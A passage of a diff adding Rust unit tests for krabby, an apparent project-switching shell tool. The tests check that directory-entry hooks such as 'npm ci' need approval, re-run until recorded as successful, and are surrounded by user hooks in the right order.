+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        let first_visit = database.change_directory(&project_path, None);
+        assert!(first_visit.contains("npm ci\n"));
+        let hash = trust::hash(&[project.get_on_first_enter_cmd().unwrap().unwrap()]);
+        assert!(first_visit.contains(&format!(
+            "}} && krabby first-entered '{}' {}\n",
+            project_name, hash
+        )));
+
+        // Until the shell tells it succeeded, the hook runs again.
+        let failed_visit = database.change_directory(&project_path, None);
+        assert!(failed_visit.contains("npm ci\n"));
+        database.record_first_enter(&project_name, hash);
+        let second_visit = database.change_directory(&project_path, None);
+        assert!(!second_visit.contains("npm ci\n"));
+
+        let project = write_project("npm install");
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        let after_change = database.change_directory(&project_path, None);
+        assert!(after_change.contains("npm install\n"));
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn broken_project_files_are_reported_instead_of_entered() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(&project_file, "name = \"project\"\nhook = [\"missing\"]\n").unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+
+        let cmd = database.change_directory(&project_path, None);
+        assert!(cmd.contains("could not be read"));
+        assert!(cmd.contains(ACTIVE_PROJECT_VAR));
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn user_hooks_surround_the_project_hook() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(&project_file, "name = \"project\"\nhook = \"npm ci\"\n").unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+        database.set_config(
+            toml::from_str(
+                r#"
+                [hooks]
+                before_enter = "title {{project.name}}"
+                after_enter = "log {{project.path}}"
+                "#,
+            )
+            .unwrap(),
+        );
+
+        let cmd = database.change_directory(&project_path, None);
+        let before = cmd.find(&format!("title '{}'\n", project_name)).unwrap();
+        let hook = cmd.find("npm ci\n").unwrap();
+        let after = cmd
+            .find(&format!("log '{}'\n", project_path.to_string_lossy()))
+            .unwrap();
+        assert!(before < hook && hook < after);
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn quiet_verbosity_keeps_only_the_hook() {
+        let (project_name, project_path) =
+            create_random_project(&std::env::temp_dir().to_string_lossy());
+        let project_file = project_path.join("krabby.toml");
+        fs::write(&project_file, "name = \"project\"\nhook = \"npm ci\"\n").unwrap();
+        let mut database = Database::new(None);
+        database
+            .add_project(project_name.clone(), project_path.clone())
+            .unwrap();
+        let project_path = database.get_project_path(&project_name).unwrap().clone();
+        let project = Project::from_file(project_file.clone()).unwrap();
+        database
+            .allow_project(project_path.clone(), &project)
+            .unwrap();
+
+        assert!(database
+            .change_directory(&project_path, None)
+            .contains("echo "));
+        database.config.verbosity = Verbosity::Quiet;
+        let cmd = database.change_directory(&project_path, None);
+        assert!(!cmd.contains("echo "));
+        assert!(cmd.contains("npm ci\n"));
+
+        remove_file(&project_file.to_string_lossy());
+        remove_dir(&project_path.to_string_lossy());
+    }
+
+    #[test]
+    fn projects_without_hooks_need_no_approval() {
+        let project = Project::new(ProjectName::parse("project".into()), None);
+        let database = Database::new(None);
+        assert_eq!(
+            database.trust(Path::new("/tmp/project"), &project).unwrap(),
+            Trust::Allowed
+        );
+    }
+
+    #[test]
+    fn allowed_projects_are_saved_in_database() {
+        let mut database = Database::from_string(
+            r#"
+            [projects]
+            project = "/tmp/project"
+            "#,
+        );
+        let project = Project::from_str(
+            r#"
+            name = "project"
+            hook = "npm ci"
+            "#,
+        )
+        .unwrap();
+        database
+            .allow_project("/tmp/project".into(), &project)
+            .unwrap();
+        let database_from_str = Database::from_string(&database.to_string());
+        assert_eq!(database_from_str, database);
+    }
+
     #[test]
     #[should_panic]
     fn remove_project_from_empty_database() {
@@ -271,11 +2248,13 @@ project1 = "/tmp/project1"
             .expect("failed to delete project")
     }
 
+    use crate::hook::ProjectHook;
     use crate::project::{Project, ProjectName};
     use rand::distributions::Alphanumeric;
     use rand::{thread_rng, Rng};
     use std::fs;
 
+    #[allow(dead_code)]
     fn create_random_database_file(path: &str) -> PathBuf {
         let mut path = PathBuf::from(path);
         let rand_string: String = thread_rng()
@@ -295,7 +2274,7 @@ project1 = "/tmp/project1"
         let mut path = PathBuf::from(path);
         let rand_string: String = thread_rng()
             .sample_iter(&Alphanumeric)
-            .take(30)
+            .take(12)
             .map(char::from)
             .collect();
         let project_name = ProjectName::parse(format!("{}-project", rand_string.clone()));